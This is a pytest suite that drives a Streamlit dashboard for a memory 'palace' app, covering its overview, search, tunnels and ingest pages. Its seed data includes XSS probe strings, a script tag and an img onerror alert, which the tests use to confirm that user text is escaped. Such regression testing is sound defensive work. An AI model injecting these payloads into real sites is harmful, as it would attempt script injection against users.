"""The dashboard shell and every page, run by Streamlit's AppTest (no browser, no server).

How these tests drive the app (Streamlit 1.67):
- The palace is filled before the app runs, through `Palace.open(settings=...)` in a `with` block:
  the app opens the default palace under MEMPALACE_HOME, and an embedded palace is locked by the
  object holding it, so ours must be closed first. After the app ran, its own `Palace` is read from
  `at.session_state["palace"]` (opening a second one would hit the lock).
- One `.run()` lands on the Overview page (the sidebar is checked there); `at.switch_page(...)` and
  a second `.run()` open another page. Sidebar widgets stay in the tree, so page widgets are looked
  up under `at.main`; clicks, checkboxes and uploads on a page are followed by `.run()`.
- Query parameters set on `at.query_params` before the first run are kept when switching pages, so
  a Search URL such as ?q=...&wing=... is simulated that way.
- AppTest keeps download buttons' files in an in-memory media store it makes per run; the
  `downloads` fixture keeps those stores so a test can read what a download button would save.
- Elements AppTest has no class for (st.iframe) are reached with `at.get("iframe")`, an
  UnknownElement whose `.proto` is the IFrame message (`srcdoc` holds the pyvis page).
"""

from __future__ import annotations

import csv
import datetime
import html
import io
import json
import re
from pathlib import Path
from urllib.parse import unquote

import pytest
from streamlit.runtime.media_file_storage import MediaFileStorageError
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1 import app_test as app_test_module

from dashboard.hits import opened_key
from dashboard.render import md
from mempalace import Palace
from mempalace.config import Settings
from mempalace.formats.registry import FORMATS
from mempalace.graph import graph_stats
from mempalace.ingest import ingest
from mempalace.store.chroma import SEQ_KEY
from mempalace.catalog.sync import new_stamp
from _apptest import APP, charts_in, closed_cards, counts_in, start, started

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
XSS_TEXT = f"Kai pasted the broken login page: {SCRIPT} and {IMG} showed up after the OIDC switch."
STORY = (  # (text, wing, room, hall): auth-migration spans three wings, gpu-pricing two
    ("Kai moved the login service to the new OIDC provider on Tuesday.", "wing_kai", "auth-migration", "hall_events"),
    ("Decision: driftwood uses OIDC; SAML is retired after the auth migration.", "wing_driftwood",
     "auth-migration", "hall_facts"),
    ("Priya's advice: migrate auth one client at a time behind a flag.", "wing_priya", "auth-migration",
     "hall_advice"),
    ("GPU pricing for the A100 nodes went up again this quarter.", "wing_kai", "gpu-pricing", "hall_facts"),
    ("Priya suggests reserving GPU capacity a year ahead to keep pricing flat.", "wing_priya", "gpu-pricing",
     "hall_advice"),
    ("Driftwood prefers blue-green deploys with a manual gate.", "wing_driftwood", "deploy-pipeline",
     "hall_preferences"),
    (XSS_TEXT, "wing_kai", "security-review", "hall_discoveries"),
)
RAW_MARKUP = re.compile(r"<\s*(script|img)\b", re.IGNORECASE)
UNESCAPED_MARKUP = re.compile(r"(?<!\\)<\s*(script|img)\b", re.IGNORECASE)  # Markdown: `\<` is plain text


# -- helpers -------------------------------------------------------------------------------------


def open_page(name: str, **query: str) -> AppTest:
    """The app on app_pages/<name>.py (one run on Overview, then a switch and a second run)."""
    at = start(**query)
    at.switch_page(f"app_pages/{name}.py").run()
    assert not at.exception, at.exception
    return at


def app_palace(at: AppTest) -> Palace:
    """The palace the running app holds (the one its pages' scoped view writes through)."""
    return at.session_state["palace"]._palace


def seed(settings: Settings) -> dict[str, str]:
    """The seed story in the default palace; {room or 'xss': a drawer id filed there}."""
    ids = {}
    with Palace.open(settings=settings) as palace:
        for text, wing, room, hall in STORY:
            result = palace.add_drawer(text, wing, room, hall)
            assert result.added, (text, result)
            ids.setdefault("xss" if text == XSS_TEXT else room, result.drawer_ids[0])
    return ids


def foreign_add(palace: Palace, drawer_id: str, text: str, wing: str, room: str, **extra: str) -> None:
    """Another client or tool writing straight into Chroma (names kept exactly as given)."""
    palace._store.add([drawer_id], [text], [{"wing": wing, "room": room, SEQ_KEY: new_stamp(), **extra}],
                      palace.embed([text]))
    palace._store.bump_marker()


def iframe_html(at: AppTest) -> str:
    frames = at.get("iframe")
    assert len(frames) == 1
    return frames[0].proto.srcdoc


def network_rooms(at: AppTest) -> set[str]:
    """The rooms the Tunnels page's network (the SVG, dashboard.network_map) draws."""
    markup = charts_in(at.main)["network"]
    return {unquote(html.unescape(name)) for name in re.findall(r'data-room="([^"]*)"', markup)}


def all_markdown(at: AppTest) -> list[str]:
    """Every Markdown-rendered string on the page: markdown, captions, alerts, labels of expanders, toggles,
    page links and buttons."""
    texts = [e.value for kind in ("markdown", "caption", "info", "warning", "error", "success", "page_link")
             for e in at.get(kind)]
    texts += [e.label for e in at.expander] + [t.label for t in at.toggle] + [b.label for b in at.button]
    return texts


def assert_no_raw_markup(at: AppTest) -> None:
    """No st.html body carries a tag from user data, and no Markdown string an unescaped one."""
    for body in (h.value for h in at.html):
        assert not RAW_MARKUP.search(body), body
    for text in all_markdown(at):
        assert not UNESCAPED_MARKUP.search(text), text


@pytest.fixture
def story(settings: Settings) -> dict[str, str]:
    return seed(settings)


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch):
    """read(download_button) -> the bytes it would save; AppTest's media stores are kept for it."""
    stores: list[MemoryMediaFileStorage] = []

    class Kept(MemoryMediaFileStorage):
        def __init__(self, media_endpoint: str) -> None:
            super().__init__(media_endpoint)
            stores.append(self)

    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", Kept)

    def read(button) -> bytes:
        name = button.proto.url.rsplit("/", 1)[-1]
        for store in reversed(stores):
            try:
                return store.get_file(name).content
            except MediaFileStorageError:
                continue
        raise AssertionError(f"no stored file for {button.proto.url!r}")

    return read


# -- the shell -----------------------------------------------------------------------------------


def test_empty_palace_shows_a_friendly_start(home):
    at = start()
    assert [t.value for t in at.title] == ["Palace overview"]
    assert any("The palace is empty" in i.value for i in at.info)
    assert [b.label for b in at.main.button] == ["Load the demo palace"]
    assert [link.value for link in at.page_link] == ["Upload transcripts"]
    assert counts_in(at.sidebar) == {"Drawers": "0", "Wings": "0", "Rooms": "0"}
    assert not at.dataframe and not counts_in(at.main)


def test_the_demo_button_fills_the_palace_and_shows_the_overview(home):
    from mempalace.ingest.demo import DEMO_WINGS

    at = start()
    at.main.button[0].click().run()
    assert not at.exception
    shown = counts_in(at.main)
    palace = app_palace(at)
    assert int(shown["Drawers"]) == palace.count() > 0
    assert set(palace.list_wings()) == set(DEMO_WINGS)
    assert int(shown["Tunnel rooms"]) >= 1 and "auth-migration" in palace.list_rooms()
    assert not any("The palace is empty" in i.value for i in at.info)


def test_a_bad_palace_path_is_an_error_not_a_crash(home):
    home.mkdir(parents=True)
    (home / "palace").write_text("not a directory")
    at = AppTest.from_file(APP, default_timeout=60).run()
    assert not at.exception
    assert "not a palace" in at.error[0].value


def test_the_sidebar_shows_where_the_palace_is_and_its_counts(story, home):
    at = start()
    assert counts_in(at.sidebar) == {"Drawers": "7", "Wings": "3", "Rooms": "4"}
    assert at.sidebar.caption[0].value.replace("\\", "") == (
        f"Private palace (only this dashboard has it open): {home / 'palace'}")
    assert at.sidebar.text_input[0].value == ""
    assert [b.label for b in at.sidebar.button] == ["Refresh"]


def test_another_spelling_of_the_open_palace_opens_the_same_palace(story, home):
    start()  # one session has the default palace open
    other = AppTest.from_file(APP, default_timeout=60)
    other.session_state["palace_target"] = f"{home / 'palace'}/"
    started(other)
    other.run()
    assert not other.exception
    assert not other.error, other.error[0].value
    assert other.sidebar.caption[0].value.replace("\\", "").endswith(f": {home / 'palace'}")


# -- Overview ------------------------------------------------------------------------------------


def test_overview_counts_places_tunnels_and_wings(story):
    at = start()
    assert [t.value for t in at.title] == ["Palace overview"]
    assert counts_in(at.main) == {"Drawers": "7", "Wings": "3", "Rooms": "4", "Tunnel rooms": "2",
                                "Halls in use": "5"}
    assert any("the `hash` embedder" in c.value for c in at.main.caption)
    places = at.dataframe[0].value
    assert list(places.columns) == ["wing", "room", "drawers"]
    assert sorted(zip(places["wing"], places["room"], places["drawers"])) == [
        ("wing_driftwood", "auth-migration", 1), ("wing_driftwood", "deploy-pipeline", 1),
        ("wing_kai", "auth-migration", 1), ("wing_kai", "gpu-pricing", 1), ("wing_kai", "security-review", 1),
        ("wing_priya", "auth-migration", 1), ("wing_priya", "gpu-pricing", 1)]
    links = [(link.value, link.proto.page, link.proto.query_string) for link in at.page_link]
    assert all(page == "search" for _, page, _ in links)  # every place links to Search, scoped to it
    # Top tunnels first, ranked as graph_stats ranks them; then rooms per wing. Labels are Markdown-escaped.
    tunnels, wings = links[:2], links[2:]
    ranked = [t.room for t in graph_stats(app_palace(at)).top_tunnels]
    assert [query for _, _, query in tunnels] == [f"room={room}" for room in ranked]
    assert sorted(ranked) == ["auth-migration", "gpu-pricing"]
    label = {query: text for text, _, query in tunnels}
    assert label["room=auth-migration"].startswith(r"auth\-migration · 3 wings · 3 drawers · weight ")
    assert label["room=gpu-pricing"].startswith(r"gpu\-pricing · 2 wings · 2 drawers · weight ")
    for tunnel in graph_stats(app_palace(at)).top_tunnels:
        assert label[f"room={tunnel.room}"].endswith(f" · weight {tunnel.weight:.2f}")
    assert [(text, query) for text, _, query in wings] == [
        (r"wing\_driftwood · 2 rooms", "wing=wing_driftwood"), (r"wing\_kai · 3 rooms", "wing=wing_kai"),
        (r"wing\_priya · 2 rooms", "wing=wing_priya")]
    assert [s.value for s in at.subheader] == ["Wings and rooms", "Wing × hall", "Places", "Top tunnels",
                                              "Rooms per wing", "Over time"]
    drawn = charts_in(at.main)
    assert list(drawn) == ["bars", "cells", "timeline"]
    for wing in ("wing_driftwood", "wing_kai", "wing_priya"):
        assert f'data-wing="{wing}" data-room=' in drawn["bars"] and f'data-wing="{wing}" data-hall=' in drawn["cells"]
    assert drawn["timeline"].count('class="mp-bar"') >= 1
    assert not at.warning  # no isolated wing: every wing shares a tunnel
    # the timeline counts conversations by their own date by default; drawers by filing day on request
    assert at.main.get("button_group")[0].proto.default == [0]
    assert "conversation" in [c.value for c in at.main.caption][-1]


def test_selecting_a_place_opens_search_scoped_to_it(story):
    at = start()
    rows = at.dataframe[0].value
    row = list(zip(rows["wing"], rows["room"])).index(("wing_kai", "gpu-pricing"))
    at.session_state["places"] = {"selection": {"rows": [row], "columns": [], "cells": []}}
    at.run()
    assert not at.exception
    assert [t.value for t in at.title] == ["Search"]
    assert at.query_params == {"wing": "wing_kai", "room": "gpu-pricing"}
    assert at.selectbox(key="search_wing").value == "wing_kai"
    assert at.selectbox(key="search_room").value == "gpu-pricing"


def test_overview_follows_writes_made_while_it_is_open(story):
    at = start()
    assert counts_in(at.main)["Drawers"] == "7"
    palace = app_palace(at)
    palace.add_drawer("Driftwood's onboarding checklist now covers OIDC logins.", "wing_driftwood", "onboarding")
    foreign_add(palace, "foreign-1", "GPU pricing notes from another client", "wing_driftwood", "gpu-pricing")
    at.run()
    assert not at.exception
    assert counts_in(at.main) == {"Drawers": "9", "Wings": "3", "Rooms": "5", "Tunnel rooms": "2",
                                "Halls in use": "5"}
    places = at.dataframe[0].value
    assert ("wing_driftwood", "gpu-pricing") in set(zip(places["wing"], places["room"]))
    assert "room=gpu-pricing" in [link.proto.query_string for link in at.page_link]
    assert r"gpu\-pricing · 3 wings · 3 drawers" in " ".join(link.value for link in at.page_link)


# -- Search --------------------------------------------------------------------------------------


def test_search_from_the_url_shows_escaped_highlighted_results_and_exports(story, downloads):
    at = open_page("search", q="OIDC login page GPU", wing="wing_kai")  # words from all three kai drawers
    assert [t.value for t in at.title] == ["Search"]
    assert at.text_input(key="search_q").value == "OIDC login page GPU"
    assert [s.value for s in at.selectbox] == ["wing_kai", "(any)", "(any)", "(any)", "hybrid"]
    assert at.query_params == {"q": "OIDC login page GPU", "wing": "wing_kai"}
    assert at.caption[0].value == "2 close matches, 1 weaker result"  # one holds 1 of the 4 words
    at.toggle(key="search_weak").set_value(True).run()
    assert not at.info

    bodies = closed_cards(at.main, "hit")
    # every result is in wing_kai (its badges), and the XSS drawer's text is shown escaped and highlighted
    assert len(bodies) == 3 and all(">wing_kai</span>" in b for b in bodies)
    snippet = next(b for b in bodies if "alert(1)" in b)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in snippet
    assert "&lt;img src=x onerror=alert(2)&gt;" in snippet
    assert "<mark>OIDC</mark>" in snippet and "<mark>login</mark>" in snippet and "<mark>page</mark>" in snippet
    assert_no_raw_markup(at)
    # opened, the card renders the text as Markdown with its HTML escaped; raw, it is the stored text
    at.session_state[opened_key("hit", story["xss"])] = True
    at.run()
    rendered = [m.value for m in at.main.markdown if "alert(1)" in m.value]
    assert rendered and "<script>" not in rendered[0] and "&lt;script>" in rendered[0]
    at.toggle(key=f"hit_text_{story['xss']}").set_value(True).run()
    assert XSS_TEXT in [c.value for c in at.code] and story["xss"] in [c.value for c in at.code]

    buttons = {b.label: b for b in at.download_button}
    assert set(buttons) == {"Export Markdown", "Export CSV"}
    markdown = downloads(buttons["Export Markdown"]).decode("utf-8")
    assert markdown.startswith("# Search: OIDC login page GPU\n")
    assert "- Scope: wing `wing_kai`" in markdown and "- Results: 3" in markdown
    assert f"```text\n{XSS_TEXT}\n```" in markdown and f"`{story['xss']}`" in markdown
    rows = list(csv.DictReader(io.StringIO(downloads(buttons["Export CSV"]).decode("utf-8"))))
    assert len(rows) == 3 and {r["wing"] for r in rows} == {"wing_kai"}
    assert XSS_TEXT in {r["content"] for r in rows}


def test_search_filters_come_from_the_url(story):
    at = open_page("search", q="pricing", room="gpu-pricing", hall="hall_advice", mode="semantic")
    assert [s.value for s in at.selectbox] == ["(any)", "gpu-pricing", "hall_advice", "(any)", "semantic"]
    assert at.caption[0].value == "1 close match"
    badges = closed_cards(at.main, "hit")
    assert len(badges) == 1 and ">hall_advice</span>" in badges[0]  # the hall_facts one is filtered out
    assert any("reserving GPU capacity" in h.value for h in at.html)


def test_an_empty_query_asks_for_one(story):
    at = open_page("search")
    assert at.text_input(key="search_q").value == ""
    assert [i.value for i in at.info] == ["Type a question or some words; narrow it with a wing, room, hall, source or dates."]
    assert not at.download_button and not at.main.html
    assert at.query_params == {}


def test_search_says_when_nothing_is_close_and_shows_the_nearest_on_request(story):
    at = open_page("search", q="xyzzyplughnonexistentword")
    assert [i.value for i in at.info][0].startswith("No close match for")
    assert not at.main.html and not at.download_button  # no card until asked
    at.toggle(key="search_weak").set_value(True).run()
    assert at.main.html and at.download_button


def test_search_keeps_to_a_date_range_from_the_url(story):
    today = app_palace(open_page("search", q="OIDC")).browse(limit=1)[1][0].filed_at[:10]
    at = open_page("search", q="OIDC", after=today)
    assert at.date_input(key="search_after").value.isoformat() == today and at.main.html
    at = open_page("search", q="OIDC", before="2001-01-01")
    assert at.caption[0].value == "No drawers match." and not at.main.html
    assert at.query_params == {"q": "OIDC", "before": "2001-01-01"}
    for box in (at.date_input(key="search_after"), at.date_input(key="search_before")):  # not ten years round today
        assert box.min <= datetime.date(1990, 1, 1) and box.max >= datetime.date(2090, 1, 1), (box.min, box.max)


def test_a_place_link_without_a_query_lists_that_place(story):
    at = open_page("search", room="auth-migration")
    assert not at.info and not at.exception
    badges = closed_cards(at.main, "search_place")
    assert len(badges) == 3 and all(">auth-migration</span>" in b for b in badges)


def test_the_heatmaps_no_hall_cell_lists_only_the_wings_drawers_in_no_hall(story, settings):
    with Palace.open(settings=settings) as palace:
        palace.add_drawer("Kai's scratch notes on the login page, of no kind yet.", "wing_kai", "auth-migration")
    at = start()
    assert 'data-hall="none"' in charts_in(at.main)["cells"]
    at.session_state["cells"] = {"picked": {"wing": "wing_kai", "hall": "none"}}  # a click on that cell
    at.run()
    assert not at.exception and [t.value for t in at.title] == ["Search"]
    assert at.query_params == {"wing": "wing_kai", "hall": "none"}
    assert at.selectbox(key="search_hall").value == "none"
    badges = closed_cards(at.main, "search_place")
    assert len(badges) == 1 and "scratch notes" in " ".join(badges)
    at.text_input(key="search_q").input("login page").run()  # a search there keeps to no hall too
    assert {c.value for c in at.caption if "close match" in c.value} and len(closed_cards(at.main, "hit")) == 1
    drawers = open_page("drawers", wing="wing_kai", hall="none")
    assert len(closed_cards(drawers.main, "drawers")) == 1


def test_unknown_places_in_the_url_fall_back_to_any_and_say_so(story):
    at = open_page("search", q="OIDC", wing="wing_nobody", room="no-such-room", hall="hall_bogus", mode="magic",
                   after="2024-13-40")
    assert [s.value for s in at.selectbox] == ["(any)", "(any)", "(any)", "(any)", "hybrid"]
    assert at.query_params == {"q": "OIDC"}  # the URL is rewritten to what is searched
    assert "close match" in at.caption[0].value and not at.error
    assert [w.value.split("  \n") for w in at.warning] == [[  # a dropped filter is never silent
        "“2024\\-13\\-40” is not a day (write it as YYYY-MM-DD): the From filter is off.",
        "No wing “wing\\_nobody” in this palace: that filter is off, so this shows every wing.",
        "No room “no\\-such\\-room” in this palace: that filter is off, so this shows every room.",
        "No hall “hall\\_bogus” in this palace: that filter is off, so this shows every hall.",
        "“magic” is not a search mode: this search is hybrid."]]
    # a room that exists, but not in the wing asked for, is dropped too
    at = open_page("search", q="OIDC", wing="wing_driftwood", room="gpu-pricing")
    assert [s.value for s in at.selectbox][:2] == ["wing_driftwood", "(any)"]
    assert [w.value for w in at.warning] == ["No room “gpu\\-pricing” in wing\\_driftwood: "
                                             "that filter is off, so this shows every room."]
    at.run()
    assert not at.warning  # said once: the URL no longer names it
    at.selectbox(key="search_wing").select("wing_kai").run()
    at.selectbox(key="search_room").select("gpu-pricing").run()
    at.selectbox(key="search_wing").select("wing_driftwood").run()  # the user's own choice empties the room
    assert [s.value for s in at.selectbox][:2] == ["wing_driftwood", "(any)"] and not at.warning


def test_changing_a_filter_reruns_the_search_and_updates_the_url(story):
    at = open_page("search", q="GPU pricing")
    everywhere = at.caption[0].value
    at.selectbox(key="search_wing").select("wing_priya").run()
    assert not at.exception
    assert at.query_params == {"q": "GPU pricing", "wing": "wing_priya"}
    assert everywhere != at.caption[0].value
    badges = closed_cards(at.main, "hit")
    assert badges and all('<div class="mp-score"' in b and ">wing_priya</span>" in b for b in badges)


# -- Tunnels -------------------------------------------------------------------------------------


def test_tunnels_page_draws_the_network_and_lists_tunnels_and_a_walk(story):
    at = open_page("tunnels")
    assert [t.value for t in at.title] == ["Tunnels"]
    assert not at.get("iframe")  # the network is one SVG; pyvis on request
    drawn = charts_in(at.main)["network"]
    assert network_rooms(at) == {"auth-migration", "gpu-pricing", "deploy-pipeline", "security-review"}
    assert 'data-wing="wing_priya"' in drawn and "<script" not in drawn
    assert not at.warning  # 4 rooms: all drawn

    found = at.dataframe[0].value
    assert list(found.columns) == ["room", "wings", "halls", "count", "weight", "score"]
    assert list(found["room"]) == ["auth-migration", "gpu-pricing"]  # most drawers first
    auth = found[found["room"] == "auth-migration"].iloc[0]
    assert list(auth["wings"]) == ["wing_driftwood", "wing_kai", "wing_priya"] and auth["count"] == 3
    assert list(found[found["room"] == "gpu-pricing"].iloc[0]["wings"]) == ["wing_kai", "wing_priya"]
    assert "2 tunnels; 2 in the whole palace." in [c.value for c in at.caption]

    assert len(at.dataframe) == 1 and not at.main.button  # the walk, renames and re-rooming: on request
    assert [t.label for t in at.main.toggle] == ["Move rooms about: the interactive network (pyvis, slower to draw)",
                                                 "Walk the network from a room you choose", "Rename a room",
                                                 "Re-room the palace", "Re-hall the palace"]
    at.toggle(key="walk_open").set_value(True).run()
    assert at.selectbox(key="walk_start").value == "auth-migration"  # the first room, alphabetically
    walk = at.dataframe[1].value
    assert walk.iloc[0]["room"] == "auth-migration" and walk.iloc[0]["hop"] == 0
    assert {"gpu-pricing", "deploy-pipeline", "security-review"} <= set(walk["room"])
    assert [m.value for m in at.markdown] == ["No likely duplicate rooms."]
    at.toggle(key="reroom_open").set_value(True).run()
    assert [b.label for b in at.main.button] == ["Preview re-rooming"]  # no merge button


def test_the_interactive_network_is_the_pyvis_page_drawn_offline_on_request(story):
    at = open_page("tunnels")
    at.toggle(key="network_interactive").set_value(True).run()
    page = iframe_html(at)
    assert "new vis.Network(" in page and '"r:auth-migration"' in page and '"w:wing_priya"' in page
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:|//|\.\./)""", page)
    assert "network" not in charts_in(at.main)


def test_the_networks_hall_filter_goes_along_with_a_click(story):
    at = open_page("tunnels")
    at.selectbox[0].select("hall_preferences").run()
    assert 'data-hall="hall_preferences"' in charts_in(at.main)["network"]  # on every room and wing drawn
    at.session_state["network"] = {"picked": {"room": "deploy-pipeline", "hall": "hall_preferences"}}
    at.run()
    assert at.query_params == {"room": "deploy-pipeline", "hall": "hall_preferences"}


def test_clicking_a_room_in_the_network_lists_its_drawers(story):
    at = open_page("tunnels")
    at.session_state["network"] = {"picked": {"room": "gpu-pricing"}}  # what the chart sends on a click
    at.run()
    assert not at.exception
    assert [t.value for t in at.title] == ["Search"] and at.query_params == {"room": "gpu-pricing"}


def test_the_re_room_panel_previews_then_applies_and_never_moves_a_persons_room(settings, tmp_path: Path):
    talk = "User: How do we migrate the ledger service?\nAssistant: Move the ledger service in steps.\n"
    (tmp_path / "ledger.txt").write_text(talk * 6, encoding="utf-8")
    with Palace.open(settings=settings) as palace:
        assert ingest(palace, tmp_path / "ledger.txt", wing="wing_kai").ok
        chosen = palace.drawer_ids()
        palace.reroom_drawers([(i, palace.get_drawer(i).room, "misfiled") for i in chosen])  # as ingest once did
        mine = palace.add_drawer("Kai's own note: oat milk, rye bread, lemons.", "wing_kai", "shopping").drawer_ids[0]
    at = open_page("tunnels")
    at.toggle(key="reroom_open").set_value(True).run()
    at.button(key="reroom_preview").click().run()
    assert not at.exception, at.exception
    preview = at.dataframe[-1].value
    assert list(preview.columns) == ["wing", "from room", "to room", "drawers"]
    assert any(f"{len(chosen)} of " in m.value and "would move; 1 in rooms a person chose stays." in m.value
               for m in at.markdown)
    assert list(preview["from room"]) == ["misfiled"] and preview["drawers"].sum() == len(chosen)
    at.button(key="reroom_apply").click().run()
    assert not at.exception, at.exception
    palace = app_palace(at)
    assert {palace.get_drawer(i).room for i in chosen} == {preview["to room"].iloc[0]} != {"misfiled"}
    assert palace.get_drawer(mine).room == "shopping"  # a person's room stays
    assert not any(b.key == "reroom_apply" for b in at.button)  # the preview is spent


def test_re_halling_previews_then_applies_and_never_touches_a_persons_hall(story, settings, tmp_path):
    talk = "Kai: The ledger service writes each entry twice when the queue retries a batch after a timeout.\n\n"
    (tmp_path / "ledger.txt").write_text(talk * 6, encoding="utf-8")
    with Palace.open(settings=settings) as palace:
        assert ingest(palace, tmp_path / "ledger.txt", wing="wing_kai").ok
        chosen = [i for i in palace.drawer_ids() if palace.get_drawer(i).source_file == "ledger.txt"]
        palace.rehall_drawers([(i, palace.get_drawer(i).hall or "", "hall_preferences") for i in chosen])  # an old rule
        mine = palace.add_drawer("Kai's own note: oat milk, rye bread, lemons.", "wing_kai", "shopping",
                                 hall="hall_preferences").drawer_ids[0]
    at = open_page("tunnels")
    at.toggle(key="rehall_open").set_value(True).run()
    at.button(key="rehall_preview").click().run()
    assert not at.exception, at.exception
    preview = at.dataframe[-1].value
    assert list(preview.columns) == ["from hall", "to hall", "drawers"]
    assert any("would change; " in m.value and "with a hall a person set keep" in m.value for m in at.markdown), [m.value for m in at.markdown]
    assert set(preview["from hall"]) == {"hall_preferences"} and preview["drawers"].sum() >= 1
    at.button(key="rehall_apply").click().run()
    assert not at.exception, at.exception
    palace = app_palace(at)
    assert palace.get_drawer(mine).hall == "hall_preferences"  # a person's hall stays
    assert not any(b.key == "rehall_apply" for b in at.button)  # the preview is spent


def test_the_hall_filters_and_heatmap_say_they_count_drawers_clearly_of_a_kind(story):
    at = open_page("overview")
    [caption] = [c.value for c in at.caption if "clearly of their kind" in c.value]
    none = app_palace(at).hall_counts().get("", 0)
    assert f"{none:,} of" in caption and "have no hall" in caption
    for page, key in (("search", "search_hall"), ("drawers", "drawers_hall")):
        at = open_page(page)
        assert "clearly of their kind" in at.selectbox(key=key).help and "have no hall" in at.selectbox(key=key).help


def test_tunnel_filters_narrow_the_network_and_the_tables(story):
    at = open_page("tunnels")
    at.slider[0].set_value(3).run()  # minimum wings per room
    assert not at.exception
    assert network_rooms(at) == {"auth-migration"}
    at.selectbox[1].select("wing_driftwood").run()  # Wing A
    at.selectbox[2].select("wing_priya").run()  # Wing B
    assert list(at.dataframe[0].value["room"]) == ["auth-migration"]
    assert "1 tunnel; 2 in the whole palace." in [c.value for c in at.caption]
    at.slider[0].set_value(1).run()
    at.multiselect[0].select("wing_driftwood").run()
    assert {"deploy-pipeline", "auth-migration"} <= network_rooms(at) and "security-review" not in network_rooms(at)
    at.selectbox[0].select("hall_preferences").run()
    assert "deploy-pipeline" in network_rooms(at) and "auth-migration" not in network_rooms(at)


def test_a_merge_suggestion_merges_when_clicked(story, settings):
    with Palace.open(settings=settings) as palace:
        foreign_add(palace, "foreign-auth", "auth notes from an upstream tool", "wing_zed", "Auth Migration")
    at = open_page("tunnels")
    suggestion = [t.value for t in at.text]
    assert len(suggestion) == 1
    assert suggestion[0].startswith("Auth Migration (1) → auth-migration (3)   score 1.00")
    merge = [b for b in at.button if b.label == "Merge"]
    assert len(merge) == 1
    merge[0].click().run()
    assert not at.exception
    palace = app_palace(at)
    assert "Auth Migration" not in palace.list_rooms()
    assert palace.list_rooms()["auth-migration"] == 4
    assert palace.get_drawer("foreign-auth").room == "auth-migration"
    assert [t.value for t in at.toast] == ["Moved 1 drawer into auth-migration."]
    assert [m.value for m in at.markdown] == ["No likely duplicate rooms."] and not at.text
    auth = at.dataframe[0].value
    assert list(auth[auth["room"] == "auth-migration"].iloc[0]["wings"]) == [
        "wing_driftwood", "wing_kai", "wing_priya", "wing_zed"]


def test_tunnels_on_an_empty_palace_points_to_the_demo(home):
    at = open_page("tunnels")
    assert any("The palace is empty" in i.value for i in at.info)
    assert not at.get("iframe") and not at.dataframe and not charts_in(at.main)


# -- Ingest --------------------------------------------------------------------------------------


def upload_buttons(at):
    """The Ingest page's upload buttons (the Sources panel's have keys of their own)."""
    return [b for b in at.main.button if not (b.key or "").startswith(("sources_", "suggest_"))]


def test_ingest_without_files_lists_the_formats(story):
    at = open_page("ingest")
    assert [t.value for t in at.title] == ["Ingest conversations"]
    uploader = at.file_uploader[0]
    assert uploader.label == "Transcript files" and uploader.accept_multiple_files and uploader.value in ([], None)
    assert [i.value for i in at.info] == ["Drop one or more files above."]
    listed = next(m.value for m in at.main.markdown if m.value.startswith("**Formats**"))
    items = listed.split("\n\n", 1)[1].split("\n")
    assert len(items) == len(FORMATS) >= 11  # every format, in detection order, with what it reads
    for item, module in zip(items, FORMATS.values()):
        assert item.startswith(f"- **{md(module.LABEL)}**: ") and item.endswith(md(module.READS))
    assert any("Cursor" in i for i in items) and any("Aider" in i for i in items)
    wing = at.selectbox[0]
    assert wing.value == "(from each file)"
    assert wing.options == ["(from each file)", "wing_driftwood", "wing_kai", "wing_priya"]
    assert not upload_buttons(at)


# AppTest (1.67) can upload: FileUploader.upload() registers the bytes for the next run. The browser
# tests still cover a real upload through the page; these check the preview/file flow itself.
TRANSCRIPT = (b"User: how do we migrate auth to OIDC without breaking logins?\n"
              b"Assistant: move one client at a time behind a flag, and keep SAML until the last one moves.\n")


def test_ingest_previews_then_files_uploads(story):
    at = open_page("ingest")
    at.file_uploader[0].upload("standup.txt", TRANSCRIPT, "text/plain")
    at.file_uploader[0].upload("junk.bin", bytes(range(256)) * 4, "application/octet-stream")
    at.selectbox[0].select("wing_kai")
    at.run()
    assert not at.exception and not at.info
    assert [b.label for b in upload_buttons(at)] == ["Preview"]
    before = app_palace(at).count()

    at.main.button[0].click().run()
    assert not at.exception
    assert [s.value for s in at.subheader] == ["Preview: 0 already in the palace, 1 new", "Sources kept in sync"]
    assert [t.value for t in at.text] == ["standup.txt · format: plain_text", "junk.bin · format: not recognised"]
    assert [e.value for e in at.error] == [r"junk\.bin looks like a binary file, not a transcript\."]
    preview = at.dataframe[0].value
    assert list(preview["status"]) == ["new"] and list(preview["wing"]) == ["wing_kai"]
    assert list(preview["wing from"]) == ["chosen for this ingest"]
    assert app_palace(at).count() == before  # a preview writes nothing

    [file] = [b for b in at.button if b.label.startswith("File ")]
    assert file.label == "File 1 new drawer"
    file.click().run()
    assert not at.exception
    assert app_palace(at).count() == before + 1
    assert app_palace(at).list_wings()["wing_kai"] == 4
    assert [s.value for s in at.success] == [
        r"standup\.txt \(plain\_text\)\: 1 conversation, 1 drawer, added 1, 0 already in the palace"]
    assert [(link.value, link.proto.query_string) for link in at.page_link] == [
        (r"Search what was added to wing\_kai", "wing=wing_kai")]

    at.run()  # the File button is gone once filed
    assert [b.label for b in upload_buttons(at)] == [] and "Filed" in [s.value for s in at.subheader]  # no stale preview


def test_the_ingest_preview_of_a_chatgpt_export_shows_its_wing_and_text_without_citation_marks(story):
    reply = "Use the Gmail API.\ue200cite\ue202turn0search1\ue201 Then \ue203ask for consent\ue204."
    mapping = {"r": {"id": "r", "parent": None, "children": ["u"], "message": None},
               "u": {"id": "u", "parent": "r", "children": ["a"], "message": {
                   "author": {"role": "user"}, "content": {"content_type": "text", "parts": ["gmail?"]}}},
               "a": {"id": "a", "parent": "u", "children": [], "message": {
                   "author": {"role": "assistant"}, "content": {"content_type": "text", "parts": [reply]}}}}
    export = json.dumps([{"id": "g1", "title": "Gmail", "mapping": mapping, "current_node": "a"}]).encode()
    at = open_page("ingest")
    at.file_uploader[0].upload("conversations_wrapped_list.json", export, "application/json")
    at.run()
    at.main.button[0].click().run()
    assert not at.exception
    preview = at.dataframe[0].value
    assert list(preview["wing"]) == ["chatgpt"] and list(preview["wing from"]) == ["ChatGPT export"]
    [text] = list(preview["text"])
    assert text == "User: gmail?  ChatGPT: Use the Gmail API. Then ask for consent."  # each line break a space
    assert not re.search("[\ue000-\uf8ff]", text)


# -- Drawers: tests/test_listing.py (cards, paging, move and delete) -----------------------------


# -- names from other tools are data, never markup -----------------------------------------------


